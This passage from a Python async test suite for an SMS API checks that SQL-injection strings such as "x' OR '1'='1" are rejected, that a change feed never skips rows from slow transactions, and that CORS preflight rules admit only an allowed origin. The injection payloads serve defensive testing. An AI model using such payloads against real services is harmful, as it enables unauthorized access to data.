    sneaky = await world.ok("ana", "/v1/sms/status", correlationId="x' OR '1'='1")
    widened = await world.get("ana", "/v1/sms/status", subAccount="acme' OR '1'='1")

    assert sneaky["items"] == []
    assert widened.status_code == 403


async def test_feed_never_hands_out_a_cursor_past_a_transaction_still_running(
    world: World, engine: AsyncEngine
) -> None:
    """Sequence numbers are taken before commit: a slow transaction's row can commit after a
    faster one with a higher number. The feed must wait for it rather than skip it."""
    from sqlalchemy import text

    async with engine.connect() as slow:
        transaction = await slow.begin()
        await slow.execute(
            text(
                "INSERT INTO mos (id, sub_account, received_at, stored_at) "
                "VALUES ('slow', 'acme', now(), now())"
            )
        )
        await world.post("mo", mo("fast", "acme"), "acme")  # higher seq, commits first

        during, cursor = await read_feed(world, "ana", "/v1/sms/receive/changes", None, 100)
        await transaction.commit()
    after, _ = await read_feed(world, "ana", "/v1/sms/receive/changes", cursor, 100)

    assert during == []  # "fast" waits behind the running transaction...
    assert after == ["slow", "fast"]  # ...and nothing is skipped once it ends


# --- browsers on other origins ----------------------------------------------------------------


async def test_a_dashboard_on_an_allowed_origin_reads_the_api_from_its_browser_page(
    world: World, settings: Settings
) -> None:
    allowed, other = "https://dash.example.com", "https://elsewhere.example.com"
    cors = settings.model_copy(update={"port": free_port(), "cors_origins": [allowed]})
    asks = {"Access-Control-Request-Method": "GET"}
    asks["Access-Control-Request-Headers"] = "username,authenticationtoken"
    async with (
        serving(cors),
        httpx.AsyncClient(base_url=f"http://127.0.0.1:{cors.port}", timeout=30) as browser,
    ):
        preflight = await browser.options("/v1/sms/status/m1", headers={"Origin": allowed, **asks})
        me = await browser.get("/v1/me", headers={"Origin": allowed, **world.headers["ana"]})
        refused = await browser.get("/v1/me", headers={"Origin": allowed})
        stranger = await browser.options("/v1/me", headers={"Origin": other, **asks})
    same_origin_only = await world.get("ana", "/v1/me")

    assert preflight.status_code == 200
    assert preflight.headers["access-control-allow-origin"] == allowed
    sendable = {
        h.strip().lower() for h in preflight.headers["access-control-allow-headers"].split(",")
    }
    assert {"username", "authenticationtoken"} <= sendable
    assert (me.status_code, me.json()["userName"]) == (200, "ana")
    assert me.headers["access-control-allow-origin"] == allowed
    # The page can read why it was refused, too.
    assert (refused.status_code, refused.headers["access-control-allow-origin"]) == (401, allowed)
    assert "access-control-allow-origin" not in stranger.headers
    assert "access-control-allow-origin" not in same_origin_only.headers  # off by default
